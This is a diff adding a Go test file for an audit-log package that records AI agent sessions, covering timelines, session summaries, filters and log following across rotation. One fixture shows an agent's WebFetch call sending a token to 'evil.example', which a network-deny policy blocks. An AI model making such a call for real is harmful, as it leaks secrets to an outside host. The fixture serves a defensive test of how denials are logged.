@@ -1,0 +1,194 @@
+package audit
+
+import (
+	"bytes"
+	"context"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files in testdata")
+
+// golden compares got with testdata/name, or rewrites it with -update.
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run with -update to create it)", err)
+	}
+	if diff := cmp.Diff(string(want), string(got)); diff != "" {
+		t.Errorf("%s mismatch (-want +got):\n%s", name, diff)
+	}
+}
+
+// reviewLog writes the sample session with a second, shorter session in
+// the middle and returns the path.
+func reviewLog(t *testing.T) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "audit.jsonl")
+	evs := sampleEvents()
+	other := []Event{
+		{Actor: Actor{ID: "user:ide"}, Action: "session.prompt", Subject: Subject{Kind: "session", Ref: "sess-2"},
+			Input: map[string]any{"prompt": "What does\nthis repo do?"}},
+		{Actor: Actor{ID: "agent:gemini"}, Action: "tool.call", Subject: Subject{Kind: "tool-call", Ref: "call-9"},
+			Policy: &Policy{Ref: "deny-network", Decision: DecisionDeny},
+			Metadata: map[string]any{"toolCall": ToolCall{Kind: "tool-call", Session: "sess-2", ToolCallID: "call-9", Tool: "WebFetch",
+				Arguments: map[string]any{"url": "https://evil.example/x?token=abcdef123456"}, Error: "denied by policy deny-network"}}},
+	}
+	all := append(append(append([]Event{}, evs[:3]...), other...), evs[3:]...)
+	writeLog(t, path, Options{Now: fixedClock(1500 * time.Millisecond)}, all)
+	return path
+}
+
+func TestShowGolden(t *testing.T) {
+	entries, err := ReadEntries(reviewLog(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := WriteTimeline(&b, entries, TimelineOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "show.golden", b.Bytes())
+
+	b.Reset()
+	var sess1 []Entry
+	for _, e := range entries {
+		if (Filter{Session: "sess-1"}).Match(&e) {
+			sess1 = append(sess1, e)
+		}
+	}
+	WriteTimeline(&b, sess1, TimelineOptions{})
+	golden(t, "show-session.golden", b.Bytes())
+
+	b.Reset()
+	WriteSessions(&b, Sessions(entries), time.UTC)
+	golden(t, "sessions.golden", b.Bytes())
+}
+
+func TestSessions(t *testing.T) {
+	entries, err := ReadEntries(reviewLog(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := Sessions(entries)
+	start := time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC)
+	at := func(n int) time.Time { return start.Add(time.Duration(n) * 1500 * time.Millisecond) }
+	want := []SessionSummary{
+		{ID: "sess-1", Start: at(2), End: at(9), Events: 6, Prompts: 1, ToolCalls: 2, Denials: 1, Approvals: 1},
+		{ID: "sess-2", Start: at(4), End: at(5), Events: 2, Prompts: 1, ToolCalls: 1, Denials: 1},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("Sessions (-want +got):\n%s", diff)
+	}
+}
+
+func TestFilter(t *testing.T) {
+	entries, err := ReadEntries(reviewLog(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name string
+		f    Filter
+		want []int64 // seqs
+	}{
+		{"everything", Filter{}, []int64{0, 1, 2, 3, 4, 5, 6, 7, 8, 9}},
+		{"session", Filter{Session: "sess-2"}, []int64{3, 4}},
+		{"tool any case", Filter{Tool: "bash"}, []int64{5, 6}},
+		{"decision", Filter{Decision: "deny"}, []int64{4, 7}},
+		{"since", Filter{Since: time.Date(2026, 11, 21, 20, 0, 12, 0, time.UTC)}, []int64{7, 8, 9}},
+		{"combined", Filter{Session: "sess-1", Decision: "deny"}, []int64{7}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []int64
+			for _, e := range entries {
+				if tt.f.Match(&e) {
+					got = append(got, e.Seq)
+				}
+			}
+			if diff := cmp.Diff(tt.want, got); diff != "" {
+				t.Errorf("(-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestTailOffset(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "f")
+	os.WriteFile(path, []byte("a\nbb\nccc\ntorn"), 0o600)
+	for n, want := range []int64{9, 5, 2, 0, 0} {
+		if got, err := TailOffset(path, n); err != nil || got != want {
+			t.Errorf("TailOffset(%d) = %d, %v; want %d", n, got, err, want)
+		}
+	}
+}
+
+// TestFollow appends while Follow runs, across a rotation, and checks that
+// every event arrives once, in order.
+func TestFollow(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "audit.jsonl")
+	l, err := Open(path, Options{MaxBytes: 1500, FlushInterval: 20 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	var mu sync.Mutex
+	var seqs []int64
+	done := make(chan error)
+	go func() {
+		done <- Follow(ctx, path, 0, func(e Entry) {
+			mu.Lock()
+			seqs = append(seqs, e.Seq)
+			mu.Unlock()
+		})
+	}()
+	const n = 30
+	for i := range n {
+		ev := Event{Actor: Actor{ID: "a"}, Action: "tool.call", Subject: Subject{Kind: "tool-call", Ref: fmt.Sprint("c", i)}, Input: map[string]any{"i": i}}
+		if err := l.AppendSync(ev); err != nil {
+			t.Fatal(err)
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	l.Close()
+	if rot, _ := rotatedFiles(path); len(rot) == 0 {
+		t.Fatal("no rotation happened; the test does not cover it")
+	}
+	deadline := time.Now().Add(3 * time.Second)
+	for {
+		mu.Lock()
+		got := len(seqs)
+		mu.Unlock()
+		if got >= n || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	cancel()
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+	want := make([]int64, n)
+	for i := range want {
+		want[i] = int64(i)
+	}
+	if diff := cmp.Diff(want, seqs); diff != "" {
+		t.Errorf("followed seqs (-want +got):\n%s", diff)
+	}
+}
